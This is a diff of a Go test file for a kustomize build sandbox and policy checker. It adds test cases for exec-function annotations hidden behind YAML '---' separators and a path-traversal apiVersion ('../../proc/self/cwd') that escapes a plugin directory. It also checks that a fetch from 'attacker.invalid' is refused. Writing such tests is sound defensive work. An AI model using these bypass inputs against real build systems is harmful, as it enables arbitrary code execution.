@@ -67,13 +67,15 @@ func TestServed(t *testing.T) {
 
 // While a build runs, kustomize's http loader gets a transport that
 // refuses before dialing (no DNS lookup), PATH holds only the docker shim,
-// and the legacy plugin home is empty; after it, all is as it was.
+// and no legacy plugin home exists (an empty one would not do: an
+// apiVersion of ../../proc/self/cwd climbs out of it); after it, all is
+// as it was.
 func TestSandbox(t *testing.T) {
 	self, err := os.Executable()
 	if err != nil {
 		t.Fatal(err)
 	}
-	path, home := os.Getenv("PATH"), os.Getenv("KUSTOMIZE_PLUGIN_HOME")
+	path, home, userHome := os.Getenv("PATH"), os.Getenv("KUSTOMIZE_PLUGIN_HOME"), os.Getenv("HOME")
 	transport := http.DefaultTransport
 	s, err := enter(Options{Self: self, Images: []string{DefaultImage}})
 	if err != nil {
@@ -81,16 +83,25 @@ func TestSandbox(t *testing.T) {
 	}
 	_, getErr := (&http.Client{}).Get("https://attacker.invalid/x.yaml")
 	entries, _ := os.ReadDir(filepath.Join(s.dir, "bin"))
-	plugins, _ := os.ReadDir(filepath.Join(s.dir, "plugins"))
+	var homes []string
+	for _, h := range []string{os.Getenv("KUSTOMIZE_PLUGIN_HOME"), filepath.Join(os.Getenv("HOME"), ".config/kustomize/plugin"), filepath.Join(os.Getenv("HOME"), "kustomize/plugin")} {
+		if _, err := os.Stat(h); err == nil {
+			homes = append(homes, h)
+		}
+	}
+	xdg, xdgSet := os.LookupEnv("XDG_CONFIG_HOME")
 	inside := os.Getenv("PATH")
 	s.leave()
 	if !errors.Is(getErr, errNoRemote) || len(s.remote) != 1 {
 		t.Errorf("an http GET in the sandbox: %v (refused %v)", getErr, s.remote)
 	}
-	if inside != filepath.Join(s.dir, "bin") || len(entries) != 1 || entries[0].Name() != "docker" || len(plugins) != 0 {
-		t.Errorf("PATH in the sandbox is %s holding %v, plugin home %v", inside, entries, plugins)
+	if inside != filepath.Join(s.dir, "bin") || len(entries) != 1 || entries[0].Name() != "docker" {
+		t.Errorf("PATH in the sandbox is %s holding %v", inside, entries)
 	}
-	if os.Getenv("PATH") != path || os.Getenv("KUSTOMIZE_PLUGIN_HOME") != home || http.DefaultTransport != transport {
+	if len(homes) != 0 || xdgSet {
+		t.Errorf("a legacy plugin home exists in the sandbox: %v (XDG_CONFIG_HOME=%q)", homes, xdg)
+	}
+	if os.Getenv("PATH") != path || os.Getenv("KUSTOMIZE_PLUGIN_HOME") != home || os.Getenv("HOME") != userHome || http.DefaultTransport != transport {
 		t.Errorf("the sandbox was not undone")
 	}
 	if _, err := os.Stat(s.dir); !os.IsNotExist(err) {
@@ -112,6 +123,8 @@ func TestPolicyKustomization(t *testing.T) {
 		{"generatorOptions", "generatorOptions:\n  annotations:\n    config.k8s.io/function: '" + exec + "'\n", "generatorOptions.annotations[config.k8s.io/function]: the legacy annotation config.k8s.io/function names the exec function /bin/sh", Allow{}},
 		{"json6902 patch", "patches:\n- target: {kind: P}\n  patch: |\n    - op: add\n      path: /metadata/annotations/config.kubernetes.io~1function\n      value: '" + exec + "'\n", "patches[0].patch: the exec function /bin/sh", Allow{}},
 		{"one-line inline transformer", "transformers:\n- '{apiVersion: x/v1, kind: P, metadata: {name: p, annotations: {config.kubernetes.io/function: \"" + exec + "\"}}}'\n", "transformers[0].metadata.annotations[config.kubernetes.io/function]: the exec function /bin/sh", Allow{}},
+		{"one-line inline transformer behind ---", "transformers:\n- '--- {apiVersion: x/v1, kind: P, metadata: {name: p, annotations: {config.kubernetes.io/function: \"" + exec + "\"}}}'\n", "transformers[0].metadata.annotations[config.kubernetes.io/function]: the exec function /bin/sh", Allow{}},
+		{"one-line inline legacy plugin behind ---", "generators:\n- '--- {apiVersion: ../../proc/self/cwd, kind: x, metadata: {name: x}}'\n", "generators[0]: the legacy kustomize plugin ../../proc/self/cwd/x", Allow{}},
 		{"exec allowed", "commonAnnotations:\n  config.kubernetes.io/function: '" + exec + "'\n", "", Allow{Exec: true}},
 		{"remote component", "components: [github.com/org/repo//c]\n", "components[0]: the remote github.com/org/repo//c", Allow{}},
 		{"remote env file", "configMapGenerator:\n- name: c\n  envs: [https://x.invalid/e.env]\n", "configMapGenerator[0].envs[0]: the remote https://x.invalid/e.env", Allow{}},
@@ -149,9 +162,10 @@ func TestMainDiscover(t *testing.T) {
 	fn := "apiVersion: x/v1\nkind: P\nmetadata:\n  name: p\n  annotations:\n    config.kubernetes.io/function: 'container: {image: " + DefaultImage + ":v1}'\n"
 	write("runs/kustomization.yaml", "transformers: [fn.yaml]\n")
 	write("runs/fn.yaml", fn)
+	write("inline/kustomization.yaml", "transformers:\n- '--- {apiVersion: x/v1, kind: P, metadata: {name: p, annotations: {config.kubernetes.io/function: \"container: {image: "+DefaultImage+":v1}\"}}}'\n")
 	write("mentions/kustomization.yaml", "resources: [fn.yaml]\n")
 	write("mentions/fn.yaml", fn)
-	for sub, want := range map[string]string{"runs": "kustomization.yaml", "mentions": ""} {
+	for sub, want := range map[string]string{"runs": "kustomization.yaml", "inline": "kustomization.yaml", "mentions": ""} {
 		var out, errb strings.Builder
 		code := Main([]string{"--discover", filepath.Join(dir, sub)}, &out, &errb)
 		got := strings.TrimSpace(out.String())
